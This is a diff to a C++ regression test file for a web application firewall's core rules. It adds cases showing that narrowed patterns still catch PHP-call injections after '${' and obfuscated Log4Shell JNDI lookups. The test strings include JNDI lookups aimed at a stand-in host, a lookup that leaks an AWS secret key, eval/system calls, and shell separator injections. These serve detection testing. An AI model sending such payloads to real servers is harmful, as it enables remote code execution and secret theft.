@@ -1,7 +1,9 @@
-// Regressions of the core rule set itself (libguard/rules/core.json) at paranoia level 1: requests that
-// real APIs send all day must not match, and the attacks a fix narrowed must still match.
+// Regressions of the core rule set itself (libguard/rules/core.json) at paranoia level 1: requests that real
+// APIs send all day must not match, and when a pattern is narrowed or rewritten (for false positives or for
+// scan cost) every form it caught is still caught.
 #include <catch2/catch.hpp>
 
+#include <algorithm>
 #include <string>
 #include <utility>
 #include <vector>
@@ -35,6 +37,11 @@ std::vector<uint32_t> Matches(Target t, std::string_view name, std::string_view 
   return ids;
 }
 
+// Ids of the core rules matching one query argument with this value.
+std::vector<uint32_t> Matching(const std::string& value) { return Matches(Target::kArg, "q", value); }
+
+bool Has(const std::vector<uint32_t>& ids, uint32_t id) { return std::find(ids.begin(), ids.end(), id) != ids.end(); }
+
 }  // namespace
 
 TEST_CASE("a parameter or value that is just `id` (or a list of columns) is not a command") {
@@ -51,5 +58,33 @@ TEST_CASE("`id` after a command separator or in a substitution is still a comman
   for (const char* v : {";id", "1|id", "a && id", "$(id)", "`id`", "x; id;"}) {
     INFO(v);
     CHECK_FALSE(Matches(Target::kArg, "cmd", v).empty());
+  }
+}
+
+// 8506's `${` + PHP call was `\$\{\s*@?\s*(?:print|...)\s*\(`: the optional run after `${` made Hyperscan
+// check every `${` (a body of `${${::-` cost 8 ns/byte for this pattern alone). It is now split into
+// alternatives on the gap (none, whitespace first, `@` then whitespace), the same language: every shape of
+// the gap must still match.
+TEST_CASE("8506: every gap between ${ and the PHP call is still caught") {
+  for (const char* v : {"${print(1)}", "${@print(1)}", "${ print(1)}", "${\t@ print (1)}", "${@  eval  ('x')}",
+                        "${ @system(id)}", "${  @  EXEC(id)}", "${PhpInfo()}", "a ${md5 (1)} b", "${\n\nassert(1)}"}) {
+    INFO(v);
+    CHECK(Has(Matching(v), 8506));
+  }
+  for (const char* v : {"${printer(1)}", "${x print(1)}", "${@@print(1)}", "$ {print(1)}", "${print}"}) {
+    INFO(v);
+    CHECK(!Has(Matching(v), 8506));
+  }
+}
+
+// The Log4Shell forms the `${` rules exist for (jndi category: 6501, 6502).
+TEST_CASE("Log4Shell lookups and their obfuscations are caught") {
+  for (const char* v : {"${jndi:ldap://evil.example/a}", "${${::-j}${::-n}di:ldap://evil.example/a}",
+                        "${${lower:j}ndi:ldap://evil.example/a}", "${env:AWS_SECRET_ACCESS_KEY}${jndi:dns://x}",
+                        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
+                        "${jndi : rmi : / / evil.example/a}"}) {
+    INFO(v);
+    const auto ids = Matching(v);
+    CHECK((Has(ids, 6501) || Has(ids, 6502)));
   }
 }
